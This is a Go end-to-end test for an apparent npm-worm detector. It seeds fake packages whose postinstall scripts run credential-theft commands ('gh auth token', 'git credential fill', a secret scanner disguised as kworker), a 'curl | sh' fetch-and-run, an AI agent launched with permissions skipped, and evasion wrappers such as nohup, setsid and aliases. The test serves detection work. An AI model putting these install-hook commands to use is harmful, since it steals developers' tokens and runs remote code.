package e2e

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"wormbell"
)

// instants are commands of worms as a package's script runs them, by programs that
// end at once, and what must be said of each. They stand in a file, so that no
// shell's command line names them: what is not seen as a process is not seen.
var instants = map[string]struct{ script, says string }{
	"gh":          {"gh auth token", "gh auth token"},
	"git":         {"git credential fill </dev/null", "git credential"},
	"fetched":     {"curl -s http://127.0.0.1:9/i | sh", "curl | sh"},
	"trufflehog":  {"kworker filesystem $HOME --json --results=verified", "trufflehog"},
	"AI agent":    {"claude --dangerously-skip-permissions -p look", "an AI agent with its guard off"},
	"alias":       {"alias g=gh\ng auth token", "gh auth token"},
	"env":         {"env -i A=1 PATH=$PATH gh auth token", "gh auth token"},
	"timeout":     {"timeout -k 1 5 gh auth token", "gh auth token"},
	"nohup":       {"nohup gh auth token >/dev/null 2>&1", "gh auth token"},
	"xargs":       {"echo token | xargs gh auth", "gh auth token"},
	"nice setsid": {"nice -n 5 setsid gh auth token", "gh auth token"},
	"exec":        {"exec gh auth token", "gh auth token"},
	"background":  {"gh auth token &\nexit 0", "gh auth token"},
	"function":    {"f() { gh \"$@\"; }\nf auth token", "gh auth token"},
}

// TestWormCommandInAnInstant: a tool that ends in less than a millisecond, below a
// real npm, is known by its words all the same.
func TestWormCommandInAnInstant(t *testing.T) {
	needRoot(t)
	needNPM(t)
	m := start(t, options{})
	if b := m.sensor("processes").Backend; !strings.Contains(b, "ebpf") {
		t.Skipf("needs eBPF, which keeps the words of what ends at once; here it is %q", b)
	}
	for _, name := range []string{"gh", "git", "curl", "kworker", "claude"} {
		m.must("~", "mkdir", "-p", "bin")
		m.must("~", "cp", "/bin/true", "bin/"+name)
	}
	// A person does the same, by the same programs.
	m.write("~/day.sh", "PATH=$HOME/bin:$PATH\ngh auth token; git credential fill; env gh auth token; timeout 5 gh auth token\n")
	m.must("~", "sh", "day.sh")
	m.quiet("a person's script")
	names, wants := map[string]string{}, map[string]string{}
	for what, v := range instants {
		name := "evil-" + strings.ReplaceAll(strings.ToLower(what), " ", "-")
		names[what], wants[name] = name, "1.0.0"
		m.seed(pkg{name: name, version: "1.0.0", scripts: map[string]any{"postinstall": "sh ./x.sh"},
			files: map[string]string{"x.sh": "PATH=$HOME/bin:$PATH\n" + v.script + "\n"}})
	}
	project, err := json.Marshal(map[string]any{"name": "app", "version": "1.0.0", "private": true, "dependencies": wants})
	if err != nil {
		t.Fatal(err)
	}
	m.write("~/app/package.json", string(project))
	m.run("~/app", "npm", "install") // some of the scripts fail
	for what, v := range instants {
		t.Run(what, func(t *testing.T) {
			m.t = t
			if f := m.told("worm-command", names[what], v.says); f.Severity < wormbell.High {
				t.Error(fmt.Sprint(f.Severity, f.Summary))
			}
		})
	}
	m.t = t
}
